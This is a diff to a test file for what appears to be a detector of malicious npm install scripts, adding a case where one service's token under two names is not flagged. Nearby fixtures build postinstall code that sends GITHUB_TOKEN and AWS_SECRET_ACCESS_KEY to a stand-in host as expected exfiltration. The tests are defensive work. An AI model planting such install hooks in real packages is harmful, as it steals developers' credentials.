@@ -324,6 +324,13 @@ https.get(url, { headers }, (res) => res.pipe(fs.createWriteStream(path.join(__d
     expect(r.level).toBe('low');
   });
 
+  it("one service's token under its two names (NX_CLOUD_AUTH_TOKEN or NX_CLOUD_ACCESS_TOKEN) is one token, not a stealer's list", () => {
+    const code = `const https = require('https');\nconst token = process.env.NX_CLOUD_AUTH_TOKEN || process.env.NX_CLOUD_ACCESS_TOKEN;\nhttps.get('https://cloud.example/api', { headers: { authorization: token } });\n`;
+    const r = run(fixture('cloud-cli', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code }));
+    expect(r.ids).not.toContain('exfiltration');
+    expect(r.level).toBe('low');
+  });
+
   it('two different tokens, or the npm token alone, sent out is exfiltration again', () => {
     const code = (names: string[]) => `const https = require('https');\nhttps.get('https://x.example/?' + ${names.map((n) => `process.env.${n}`).join(" + '&' + ")});\n`;
     const two = run(fixture('two-tokens', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']) }));
